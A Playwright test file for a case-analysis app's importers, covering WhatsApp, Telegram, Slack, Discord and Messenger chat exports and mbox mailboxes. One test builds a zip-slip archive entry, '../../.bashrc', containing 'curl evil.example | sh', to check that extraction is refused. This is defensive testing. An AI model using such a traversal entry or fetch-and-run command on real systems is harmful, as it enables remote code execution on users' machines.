import { test, expect } from './support/fixtures';
import { caseIdFromUrl, readStore } from './support/storage';
import { dragSelect } from './support/selection';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { corpusFile, hasCorpus, NO_CORPUS } from './support/files';

interface StoredMessage {
  id: string;
  sourceId: string;
  seq: number;
  sender?: string;
  sentAt?: string;
  sentAtStated?: string;
  timeZoneAssumption?: string;
  text: string;
  system?: boolean;
  attachments?: { name: string; sourceId?: string }[];
}

test.describe('chat exports from the corpus', () => {
  test.skip(!hasCorpus, NO_CORPUS);

  test('a WhatsApp zip becomes a conversation: one record per message, its media as linked child sources, each message taggable and citable', async ({
    page,
    cases,
    sources,
  }) => {
    test.setTimeout(180_000);
    await cases.open();
    await cases.create('WhatsApp');
    const caseId = caseIdFromUrl(page);
    await sources.importFiles([
      {
        name: 'whatsapp-chat-parser-example.zip',
        mimeType: 'application/zip',
        buffer: corpusFile('whatsapp/pustur-website/whatsapp-chat-parser-example.zip'),
      },
    ]);
    await expect(sources.result('whatsapp-chat-parser-example.zip')).toContainText(/Imported · \d+ messages · \d+ attached files?/);
    const db = `casefile-case-${caseId}`;
    const stored = await readStore<{ id: string; kind: string; title: string; parentId?: string; origin: string }>(page, db, 'sources');
    const chat = stored.find((s) => s.kind === 'chat');
    expect(chat?.title).toMatch(/WhatsApp/);
    const children = stored.filter((s) => s.parentId === chat?.id);
    expect(children.length).toBeGreaterThanOrEqual(3);
    expect(children.every((c) => c.origin === 'attachment')).toBe(true);
    const messages = (await readStore<StoredMessage>(page, db, 'messages')).sort((a, b) => a.seq - b.seq);
    expect(messages.length).toBeGreaterThan(10);
    expect(messages[0]?.system).toBe(true);
    const welcome = messages.find((m) => m.text === 'Welcome to the chat example!');
    expect(welcome).toMatchObject({ sender: 'Loris', sentAtStated: expect.stringContaining('20.06.19'), sentAt: '2019-06-20T15:58:57' });
    expect(welcome?.timeZoneAssumption).toBeTruthy();
    const photo = messages.find((m) => m.attachments?.some((a) => /PHOTO/.test(a.name)));
    expect(children.map((c) => c.id)).toContain(photo?.attachments?.[0]?.sourceId);
    // One activity entry per source, not per message.
    const log = await readStore<{ action: string }>(page, db, 'activity');
    expect(log.filter((e) => e.action === 'source.import')).toHaveLength(1 + children.length);

    await sources.open(chat!.title);
    // The conversation is a list named after the chat.
    const conversation = page.getByRole('list', { name: 'whatsapp-chat-parser-example' });
    await expect(conversation).toContainText('Welcome to the chat example!');
    await expect(conversation.getByRole('link', { name: /PHOTO/ }).first()).toBeVisible();

    // Tag words inside one message.
    const row = conversation.getByRole('listitem').filter({ hasText: 'Welcome to the chat example!' });
    await dragSelect(page, row.locator('[data-message-text]'), 'chat example');
    await page.getByRole('button', { name: 'Tag entity' }).click();
    const dialog = page.getByRole('dialog', { name: 'Tag entity' });
    await dialog.getByRole('combobox', { name: 'Entity' }).fill('Chat example');
    await dialog.getByLabel('Type').selectOption({ label: 'Other' });
    await dialog.getByRole('button', { name: 'Create and tag' }).click();
    await expect(dialog).toBeHidden();
    await expect(row.locator('mark.hl--mention')).toHaveText('chat example');

    // "Add event" from a message: the date is the message's, as the export states it.
    await row.getByRole('button', { name: /^Add event from message/ }).click();
    const event = page.getByRole('dialog', { name: 'Add event' });
    await expect(event.getByLabel('Date', { exact: true })).toHaveValue(/20 June 2019/);
    await expect(event.getByRole('blockquote').or(event.locator('blockquote'))).toContainText('Welcome to the chat example!');
    await event.getByLabel('Title').fill('Group started');
    await event.getByRole('button', { name: 'Add to timeline' }).click();
    await expect(event).toBeHidden();

    const mentions = await readStore<{ anchor: { scope?: { messageId?: string }; quote: { exact: string } } }>(page, db, 'mentions');
    expect(mentions[0]?.anchor).toMatchObject({ scope: { messageId: welcome?.id }, quote: { exact: 'chat example' } });
    const citations = await readStore<{ anchor: { scope?: { messageId?: string } } }>(page, db, 'citations');
    expect(citations[0]?.anchor.scope?.messageId).toBe(welcome?.id);

    // The attachment opens as its own source, which says where it came from.
    await conversation.getByRole('link', { name: /PHOTO/ }).first().click();
    await expect(page.getByRole('region', { name: 'File metadata' })).toContainText('Taken from');

    await page.reload();
    await page.goBack();
    await expect(page.getByRole('list', { name: /./ }).locator('mark.hl--mention').first()).toHaveText('chat example');
  });

  test('Telegram, Slack, Android WhatsApp, Discord and Messenger exports; an unknown layout is refused naming the known ones', async ({
    page,
    cases,
    sources,
  }) => {
    test.setTimeout(180_000);
    await cases.open();
    await cases.create('Chats');
    const caseId = caseIdFromUrl(page);
    await sources.importFiles([
      { name: 'result.json', mimeType: 'application/json', buffer: corpusFile('telegram/innerdvations/saved.json') },
      { name: 'slack.zip', mimeType: 'application/zip', buffer: corpusFile('slack/slack-export-viewer__testarchive.zip') },
      { name: 'WhatsApp Chat with Alice.txt', mimeType: 'text/plain', buffer: corpusFile('whatsapp/chat-analytics__4A_11M.txt') },
      { name: 'discord.json', mimeType: 'application/json', buffer: corpusFile('discord/chat-analytics__GC_3A_5M.json') },
      { name: 'message_1.json', mimeType: 'application/json', buffer: corpusFile('messenger/chat-analytics__2A_7M.json') },
      { name: 'weird.txt', mimeType: 'text/plain', buffer: Buffer.from('[not a chat]\nSome plain notes.\n') },
      { name: 'other.json', mimeType: 'application/json', buffer: Buffer.from('{"chats": {"list": 1}}') },
      {
        // A WhatsApp export with an entry whose name climbs out of the archive.
        name: 'WhatsApp Chat - slip.zip',
        mimeType: 'application/zip',
        buffer: Buffer.from(
          zipSync({
            ...unzipSync(new Uint8Array(corpusFile('whatsapp/pustur-website/whatsapp-chat-parser-example.zip'))),
            '../../.bashrc': strToU8('curl evil.example | sh'),
          }),
        ),
      },
    ]);
    // Rows by the file's own name (a refusal may quote other names, such as result.json).
    const row = (name: string) =>
      sources.tray().getByRole('listitem').filter({ has: page.locator('.import-row__name', { hasText: new RegExp(`^${name.replace(/[.]/g, '\\.')} `) }) });
    for (const name of ['result.json', 'slack.zip', 'WhatsApp Chat with Alice.txt', 'discord.json', 'message_1.json']) {
      await expect(row(name)).toContainText(/Imported · [\d,]+ messages?/);
    }
    await expect(row('weird.txt')).toContainText('Imported'); // plain text stays text
    await expect(row('other.json')).toContainText('does not look like a chat export Casefile knows');
    await expect(row('WhatsApp Chat - slip.zip')).toContainText(/Imported · [\d,]+ messages/);
    const stored = await readStore<{ id: string; kind: string; fileName?: string; warnings?: string[]; metadata?: { chat?: { format: string; conversations: { name: string }[] } } }>(
      page,
      `casefile-case-${caseId}`,
      'sources',
    );
    const formats = stored.filter((s) => s.kind === 'chat').map((s) => s.metadata?.chat?.format).sort();
    expect(formats).toEqual(['discord-chat-exporter', 'facebook-messenger', 'slack-export', 'telegram-json', 'whatsapp-android', 'whatsapp-ios']);
    const slip = stored.find((s) => s.fileName === 'WhatsApp Chat - slip.zip') as { warnings?: string[] } | undefined;
    expect(slip?.warnings?.join(' ')).toMatch(/not taken out .*“\.\.\/\.\.\/\.bashrc”/);
    expect(stored.some((s) => /bashrc/.test(s.fileName ?? ''))).toBe(false);
    expect(stored.find((s) => s.fileName === 'weird.txt')?.kind).toBe('text');
    const slack = stored.find((s) => s.fileName === 'slack.zip');
    expect(slack?.metadata?.chat?.conversations.length).toBeGreaterThan(1);

    // A Slack export with several channels: one list per conversation, chosen from a menu.
    await sources.open(stored.find((s) => s.fileName === 'slack.zip') ? 'Slack: 2 conversations' : '');
    const picker = page.getByRole('combobox', { name: 'Conversation' });
    await expect(picker).toBeVisible();
    const second = await picker.locator('option').nth(1).textContent();
    await picker.selectOption({ index: 1 });
    await expect(page.getByRole('list', { name: (second ?? '').replace(/ \([\d,]+\)$/, '') })).toBeVisible();
  });

  test('mailboxes: every email read, threads grouped, and an unescaped “From ” line in a body does not split it', async ({
    page,
    cases,
    sources,
  }) => {
    test.setTimeout(180_000);
    await cases.open();
    await cases.create('Mailboxes');
    const caseId = caseIdFromUrl(page);
    const mbox = [
      'From ana@harbour.example Tue Apr 14 15:04:00 2020',
      'From: Ana <ana@harbour.example>',
      'To: Bo <bo@ministry.example>',
      'Subject: Harbour payment',
      'Message-ID: <one@harbour.example>',
      'Date: Tue, 14 Apr 2020 15:04:00 +0200',
      '',
      'The payment went out today.',
      'From what I hear, the minister signed it herself.',
      '',
      'From bo@ministry.example Tue Apr 14 16:10:00 2020',
      'From: Bo <bo@ministry.example>',
      'To: Ana <ana@harbour.example>',
      'Subject: Re: Harbour payment',
      'Message-ID: <two@ministry.example>',
      'In-Reply-To: <one@harbour.example>',
      'Date: Tue, 14 Apr 2020 16:10:00 +0200',
      '',
      'Thanks. Delete this.',
      '',
      'From carl@press.example Wed Apr 15 09:00:00 2020',
      'From: Carl <carl@press.example>',
      'Subject: Unrelated',
      'Message-ID: <three@press.example>',
      'Date: Wed, 15 Apr 2020 09:00:00 +0000',
      '',
      'Lunch?',
      '',
    ].join('\n');
    await sources.importFiles([
      { name: 'harbour.mbox', mimeType: 'application/mbox', buffer: Buffer.from(mbox) },
      { name: 'content-length.mbox', mimeType: 'application/mbox', buffer: corpusFile('mbox/mimekit/content-length.mbox.txt') },
      { name: 'takeout.mbox.txt', mimeType: 'text/plain', buffer: corpusFile('mbox/mimekit/issue1189.mbox.txt') },
    ]);
    await expect(sources.result('harbour.mbox')).toContainText('Imported · 3 emails · 2 threads');
    await expect(sources.result('content-length.mbox')).toContainText('Imported · 29 emails');
    await expect(sources.result('takeout.mbox.txt')).toContainText('Imported · 4 emails');
    const db = `casefile-case-${caseId}`;
    const stored = await readStore<{ id: string; fileName?: string }>(page, db, 'sources');
    const harbour = stored.find((s) => s.fileName === 'harbour.mbox');
    const messages = (await readStore<StoredMessage & { conversation?: string }>(page, db, 'messages'))
      .filter((m) => m.sourceId === harbour?.id)
      .sort((a, b) => a.seq - b.seq);
    expect(messages).toHaveLength(3);
    expect(messages.find((m) => m.seq === 0)?.text).toContain('From what I hear, the minister signed it herself.');
    expect(messages[0]?.conversation).toBe(messages[1]?.conversation);
    expect(messages[2]?.conversation).not.toBe(messages[0]?.conversation);

    await sources.open('harbour');
    await expect(page.getByRole('region', { name: 'Thread: Harbour payment' }).getByRole('listitem')).toHaveCount(2);
    await expect(page.getByRole('region', { name: 'Thread: Unrelated' })).toContainText('Lunch?');
  });
});
